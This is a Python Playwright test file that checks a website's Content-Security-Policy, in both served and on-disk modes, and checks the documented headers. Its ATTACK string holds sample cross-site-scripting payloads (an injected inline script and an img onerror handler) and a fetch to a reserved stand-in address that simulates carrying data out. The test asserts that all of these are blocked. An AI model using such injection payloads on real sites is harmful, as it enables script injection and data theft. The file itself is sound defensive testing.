"""The site's Content-Security-Policy, as a meta element and as response headers, in a browser that enforces it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.kinds import KINDS
from tests.browser.server import Served, site_headers

pytestmark = pytest.mark.browser

OVERVIEW = next(kind for kind in KINDS if kind.name == "overview")

# Two ways by which a text that is not escaped would run, and one to carry words out. 203.0.113.0/24 is nobody's.
ATTACK = """() => new Promise(resolve => {
  const broken = [];
  document.addEventListener("securitypolicyviolation", event => broken.push(event.effectiveDirective));
  window.ran = [];
  const inline = document.createElement("script");
  inline.textContent = "window.ran.push('inline')";
  document.body.append(inline);
  document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.ran.push(1)'>");
  fetch("http://203.0.113.1/").catch(() => 0);
  setTimeout(() => resolve([window.ran, [...new Set(broken)].sort()]), 300);
})"""


@pytest.mark.parametrize("on_disk", [False, True], ids=["served", "on-disk"])
def test_what_gets_in_does_not_run(on_disk: bool, served: Served, site: Path, chromium: Browser) -> None:
    """Should a text of a source ever reach a page as markup, no script in it runs, and nothing is carried out."""
    tab = chromium.new_page()  # not of the fixtures, since complaints are wanted here
    tab.goto((site.as_uri() + "/" if on_disk else served.address) + OVERVIEW.uri)
    ran, broken = tab.evaluate(ATTACK)
    tab.close()
    assert (ran, broken) == ([], ["connect-src", "script-src-attr", "script-src-elem"])


def test_scripts_of_the_theme_run_on_disk(open_kind: Callable[..., Page]) -> None:
    """The policy of a page in a folder lets the theme's scripts run, those inside the page too."""
    tab = open_kind(OVERVIEW, on_disk=True)
    assert tab.evaluate("[document.documentElement.classList.contains('js'), typeof __md_scope]") == [True, "object"]


def test_headers_allow_no_inline_script(site: Path) -> None:
    """The documented headers have no keyword that lets any script in a page run."""
    headers = dict(site_headers(site))
    rules = dict(rule.split(" ", 1) for rule in headers.pop("Content-Security-Policy").split("; "))
    scripts = [source for source in rules["script-src"].split() if not source.startswith("'sha256-")]
    assert (scripts, rules["default-src"], rules["frame-ancestors"], sorted(headers)) == (
        ["'self'"],
        "'none'",
        "'self'",
        ["Cross-Origin-Opener-Policy", "Permissions-Policy", "Referrer-Policy", "X-Content-Type-Options"],
    )
